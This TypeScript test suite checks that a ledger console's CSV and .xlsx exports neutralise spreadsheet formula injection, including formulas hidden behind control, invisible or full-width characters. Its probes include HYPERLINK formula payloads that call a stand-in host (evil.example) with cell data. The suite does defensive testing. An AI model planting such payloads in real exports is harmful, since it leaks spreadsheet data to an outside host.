import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { neutraliseText, startsFormula } from '../../src/exports/neutralise';
import { kstStamp } from '../../src/notifications/kst-date';
import { approvalNotification } from '../../src/simulator/notification-builders';
import { HOST } from '../console/console-harness';
import { startLedgerConsole, type LedgerConsole } from '../console/ledger-console-harness';
import { parseCsv, parseXlsx, type SheetCell } from './xlsx-sheet';
import { binary, bytes } from './download';
import { convertWithSpreadsheet, hasSpreadsheetProgram } from './spreadsheet-program';

/**
 * A formula start is neutralised after what a spreadsheet skips before it looks: a NUL or another
 * control character, a line feed, spaces and invisible format characters, and the full-width and
 * small forms of `=+-@`. LibreOffice's default CSV import dropped the NUL of
 * `\0=HYPERLINK("http://evil.example/?"&A1,…)` and ran the rest.
 */

const CONTROLS = [...Array.from({ length: 0x20 }, (_, i) => i), ...Array.from({ length: 0x21 }, (_, i) => 0x7f + i)].map((c) => String.fromCharCode(c));
const INVISIBLE = [' ', '\u00a0', '\u3000', '\u2028', '\u2029', '\u200b', '\ufeff', '\u202e', '\u2066', '\u00ad', '\u180e'];
const SIGNS = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20', '\ufe66', '\ufe62', '\ufe63', '\ufe6b'];

describe('the neutraliser', () => {
  test('every control character, then any formula sign (ASCII, full-width, small form): quoted', () => {
    for (const control of CONTROLS) {
      for (const sign of SIGNS) {
        const text = `${control}${sign}HYPERLINK("http://evil.example/?"&A1,"x")`;
        expect(neutraliseText(text)).toBe(`'${text}`);
      }
    }
  });

  test('any run of skipped characters before a formula sign: quoted; before anything else: kept as it is', () => {
    const skipped = fc.array(fc.constantFrom(...CONTROLS, ...INVISIBLE), { minLength: 1, maxLength: 5 }).map((chars) => chars.join(''));
    fc.assert(
      fc.property(skipped, fc.constantFrom(...SIGNS), fc.string({ maxLength: 8 }), (lead, sign, rest) => {
        expect(neutraliseText(`${lead}${sign}${rest}`)).toBe(`'${lead}${sign}${rest}`);
      }),
      { numRuns: 2000 },
    );
    fc.assert(
      fc.property(skipped.filter((lead) => !/^[\t\r]/.test(lead)), fc.constantFrom('홍길동', 'ORD-1', '12000', "'=1", 'a=b', '1-2', '(=)'), (lead, rest) => {
        expect(startsFormula(`${lead}${rest}`)).toBe(false);
        expect(neutraliseText(`${lead}${rest}`)).toBe(`${lead}${rest}`);
      }),
      { numRuns: 500 },
    );
  });
});

const NOT_XML = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/g;

describe('exports: a formula behind skipped characters runs in no spreadsheet', () => {
  let h: LedgerConsole;
  let dir: string;
  beforeAll(async () => {
    h = await startLedgerConsole();
    dir = mkdtempSync(join(tmpdir(), 'noti-formula-files-'));
  });
  afterAll(async () => {
    await h.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const probes = {
    shopValue1: '\u0000=HYPERLINK("http://evil.example/?"&A1,"x")',
    shopValue2: '\n=1+1',
    shopValue3: '\uff1dHYPERLINK("http://evil.example/","y")',
    shopValue4: '\u200b\u3000@SUM(A1:A9)',
    shopValue5: '\u0007 \uff0b1+1',
    shopValue6: '\r\n-2+3',
    resMsg: '\ufeff=2+2 정상',
  };

  test('CSV and .xlsx, as downloaded: every probe quoted, and LibreOffice finds no formula in either', async () => {
    await h.ledgerApp.notify(approvalNotification({ mallId: 'T0001234', shopOrderNo: `ORD-FX-${Date.now()}`, amount: '1000', transactionDate: kstStamp(new Date()), ...probes })).expect(200);
    const { agent } = await h.signIn('kim', 'operator');
    const csvFile = join(dir, 'events.csv');
    const xlsxFile = join(dir, 'events.xlsx');
    writeFileSync(csvFile, bytes(await binary(agent.get('/console/exports/events.csv').set('Host', HOST)).expect(200)));
    writeFileSync(xlsxFile, bytes(await binary(agent.get('/console/exports/events.xlsx').set('Host', HOST)).expect(200)));

    const csvCells = parseCsv(readFileSync(csvFile, 'utf8').slice(1)).flat();
    const book = parseXlsx(readFileSync(xlsxFile));
    const xlsxCells = book.sheets.flat(2).filter((c): c is SheetCell => c?.type === 'text').map((c) => String(c.value));
    for (const probe of Object.values(probes)) {
      expect(csvCells).toContain(`'${probe}`);
      expect(xlsxCells).toContain(`'${probe.replace(NOT_XML, '\ufffd')}`);
    }
    expect(csvCells.filter((cell) => startsFormula(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toEqual([]);
    expect(xlsxCells.filter((cell) => startsFormula(cell))).toEqual([]);
    expect(book.sheetXml.join('')).not.toMatch(/<f[ >]/);

    if (!hasSpreadsheetProgram) {
      console.log('LibreOffice (soffice) is not installed: the files were checked as written, not as a spreadsheet opens them');
      return;
    }
    for (const [file, from] of [[csvFile, 'csv'], [xlsxFile, 'xlsx']] as const) {
      // LibreOffice's default import (no filter options), written back as flat OpenDocument XML.
      const document = (await convertWithSpreadsheet(readFileSync(file), from, 'fods')).toString('utf8');
      expect(document).toContain('HYPERLINK');
      expect(document).not.toMatch(/table:formula=/);
    }
  }, 300_000);
});
